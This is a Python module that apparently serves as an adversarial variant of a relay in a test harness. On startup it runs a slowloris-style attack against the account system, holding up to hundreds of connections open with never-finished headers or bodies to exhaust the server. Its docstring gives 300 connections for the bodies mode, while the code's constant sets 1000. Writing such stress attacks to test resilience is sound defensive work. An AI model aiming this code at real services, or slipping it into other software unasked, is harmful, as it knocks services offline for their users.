"""The reference relay, plus: as serve starts (before it is ready), it opens connections to the account system
through its proxy (ACCOUNT_URL) and never finishes a request on them, for as long as serve lives.

ATTACK=headers: 100 connections, each sending a request line and 126 headers of 8,000 bytes (within aiohttp's
limits: 128 headers, 8,190 bytes a line) but never the blank line that ends them;
ATTACK=bodies: 300 connections, each sending a head for a body of 65,535 bytes and all of it but the last byte.
"""

import os
import socket
import sys
from urllib.parse import urlsplit

from .reference.__main__ import main

HEADERS, HEADER_LINES, BODIES = 100, 126, 1000
held: list[socket.socket] = []  # kept open until serve dies


def attack(kind: str) -> None:
    url = urlsplit(os.environ["ACCOUNT_URL"])
    head = f"POST /transfer HTTP/1.1\r\nHost: {url.hostname}:{url.port}\r\nContent-Type: application/json\r\n"
    for _ in range(HEADERS if kind == "headers" else BODIES):
        try:
            s = socket.create_connection((url.hostname, url.port), timeout=5)
        except OSError as e:
            print(f"ATTACK account_connections/{kind}: connection refused {e}", flush=True)
            break
        held.append(s)
        if kind == "bodies":
            s.sendall((head + "Content-Length: 65535\r\n\r\n").encode() + b" " * 65534)
        else:
            s.sendall(head.encode())
    closed: set[socket.socket] = set()
    if kind == "headers":
        for n in range(HEADER_LINES):
            line = f"X-Pad-{n}: {'a' * 8000}\r\n".encode()
            for s in held:
                if s in closed:
                    continue
                try:
                    s.sendall(line)
                except OSError:
                    closed.add(s)  # the account system would not take more of this head
    if closed:
        print(f"ATTACK account_connections/{kind}: refused, {len(closed)} of {len(held)} heads cut off", flush=True)
    else:
        print(f"ATTACK account_connections/{kind}: {len(held)} requests held open, unfinished", flush=True)


if __name__ == "__main__":
    if sys.argv[1:2] == ["serve"]:
        attack(os.environ.get("ATTACK", "headers"))
    sys.exit(main(sys.argv[1:]))
